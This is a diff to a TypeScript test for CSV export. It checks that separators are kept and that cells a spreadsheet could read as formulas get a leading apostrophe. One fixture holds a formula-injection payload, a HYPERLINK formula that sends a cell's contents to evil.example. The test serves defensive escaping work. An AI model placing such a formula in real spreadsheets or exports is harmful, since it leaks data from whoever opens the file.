@@ -121,8 +121,8 @@ test('friendly CSV with a semicolon: readable bodies, names, numbers, every host
   const rows = parse(text, { bom: true, delimiter: ';', columns: true }) as Array<Record<string, string>>;
   const byCase = new Map(rows.map((r) => [r.Caso, r]));
   assert.deepEqual(byCase.get('K-1'), { Caso: 'K-1', Canal: 'Correo', Asunto: 'Pedido', Mensaje: 'Hola equipo,\nMi pedido 123 no llegó.\nCaso\tA&B\n[imagen]', Respuesta: 'Con gusto.\nSaludos — Ana', 'Evaluación de encuesta': '5', Estado: 'Cerrada' });
-  // The one change to a value: the apostrophe before a field a spreadsheet could split into a formula.
-  assert.equal(byCase.get('K-2')!.Mensaje, `'x;=HYPERLINK("http://evil.example/?x="&A1,"click")`);
+  // The one change to a value: an apostrophe before what a spreadsheet could take for a formula, in any piece.
+  assert.equal(byCase.get('K-2')!.Mensaje, `x;'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
   assert.equal(byCase.get('K-2')!.Respuesta, `'-1, then +2; @me`);
   assert.equal(byCase.get('K-3')!.Asunto, 'a, b; c\td', 'separators inside a field: quoted, kept');
   assert.match(text, /;"a, b; c\td";/);
